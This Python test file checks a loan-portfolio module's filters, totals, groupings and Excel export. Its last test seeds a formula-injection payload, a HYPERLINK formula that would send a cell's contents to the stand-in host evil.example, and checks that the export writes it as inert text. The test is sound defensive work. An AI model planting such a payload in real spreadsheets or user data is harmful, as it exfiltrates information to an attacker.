"""The portfolio read back: filters, totals, groupings and the spreadsheet."""

from __future__ import annotations

from decimal import Decimal as D
from pathlib import Path

import pandas as pd
from sqlalchemy import Engine, text

from domain.case import Case
from storage.case_store import SqlCaseStore
from storage.headoffice.portfolio_export import export_portfolio
from storage.headoffice.queries import PortfolioFilter, count, groups, rows, totals
from tests.headoffice.pg_fixtures import REVIEWER, engine, needs_pg, pg_url

pytestmark = needs_pg
__all__ = ["engine", "pg_url"]


def _seed(engine: Engine) -> None:
    """Three cases: 3301 retail 300,000.50 (red 1), 3301 plastics 200,000 (amber 2),
    3302 retail 100,000 (clean)."""
    store = SqlCaseStore(engine, default_branch="3301")
    spec = [
        ("3301", "retail", "300000.50", 1, 0),
        ("3301", "plastics", "200000", 0, 2),
        ("3302", "retail", "100000", 0, 0),
    ]
    for branch, industry, amount, red, amber in spec:
        case = Case(branch=branch)
        case.business.industry = industry
        case.loan.amount = D(amount)
        stored = store.create(case, REVIEWER)
        store.set_summary_metrics(stored.uuid, 100, red, amber)
        with engine.begin() as conn:
            conn.execute(
                text("INSERT INTO ho_case_meta VALUES (:u, :b, '王小明', 'fp', now())"),
                {"u": stored.uuid, "b": branch},
            )


def test_totals_and_filters_add_up_by_hand(engine: Engine) -> None:
    _seed(engine)
    # 300,000.50 + 200,000 + 100,000 = 600,000.50
    assert totals(engine).amount == D("600000.50")
    assert count(engine, PortfolioFilter(branch="3301")) == 2
    assert totals(engine, PortfolioFilter(industry="retail")).amount == D("400000.50")
    assert [r.industry for r in rows(engine, PortfolioFilter(light="amber"))] == ["plastics"]
    page = rows(engine, sort="amount", descending=True, limit=2)
    assert [r.amount for r in page] == [D("300000.50"), D("200000")]


def test_groups_by_industry_and_by_light(engine: Engine) -> None:
    _seed(engine)
    by_industry = {g.key: (g.cases, g.amount) for g in groups(engine, "industry")}
    assert by_industry == {"plastics": (1, D("200000")), "retail": (2, D("400000.50"))}
    by_light = {g.key: g.cases for g in groups(engine, "light")}
    assert by_light == {"amber": 1, "green": 1, "red": 1}


def test_the_spreadsheet_has_the_filtered_cases_and_a_summary_with_a_total(
    engine: Engine, tmp_path: Path
) -> None:
    _seed(engine)
    path = tmp_path / "portfolio.xlsx"
    assert export_portfolio(engine, path, PortfolioFilter(branch="3301")) == 2
    cases = pd.read_excel(path, sheet_name="cases")
    summary = pd.read_excel(path, sheet_name="summary", dtype={"branch": str})
    assert sorted(cases["industry"]) == ["plastics", "retail"]
    assert list(summary["cases"]) == [1, 1, 2]
    # total: 200,000 + 300,000.50 = 500,000.50
    assert D(str(summary["amount"].iloc[-1])) == D("500000.5")
    assert not list(tmp_path.glob(".*.part"))


def test_the_spreadsheet_writes_formula_leading_text_as_text_and_amounts_as_numbers(
    engine: Engine, tmp_path: Path
) -> None:
    """Issue 20, defect 3: a borrower name or industry beginning with = + - @
    is a string cell in both sheets, never a live formula."""
    import openpyxl

    store = SqlCaseStore(engine, default_branch="3301")
    case = Case(branch="3301")
    case.applicant.registered_name = '=HYPERLINK("http://evil.example/?"&B2,"x")'
    case.business.industry = "@SUM(1+1)"
    case.loan.amount = D("-1200.50")
    stored = store.create(case, REVIEWER)
    with engine.begin() as conn:
        conn.execute(
            text("INSERT INTO ho_case_meta VALUES (:u, '3301', '-王小明', 'fp', now())"),
            {"u": stored.uuid},
        )
    path = tmp_path / "portfolio.xlsx"
    assert export_portfolio(engine, path) == 1
    book = openpyxl.load_workbook(path)
    sheet = book["cases"]
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert (row["name"].data_type, row["name"].value) == ("s", case.applicant.registered_name)
    assert (row["industry"].data_type, row["industry"].value) == ("s", "@SUM(1+1)")
    assert (row["officer"].data_type, row["officer"].value) == ("s", "-王小明")
    assert row["amount"].data_type == "n" and D(str(row["amount"].value)) == D("-1200.50")
    summary = book["summary"]
    assert summary["B2"].value == "@SUM(1+1)" and summary["B2"].data_type == "s"
    formulas = [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []
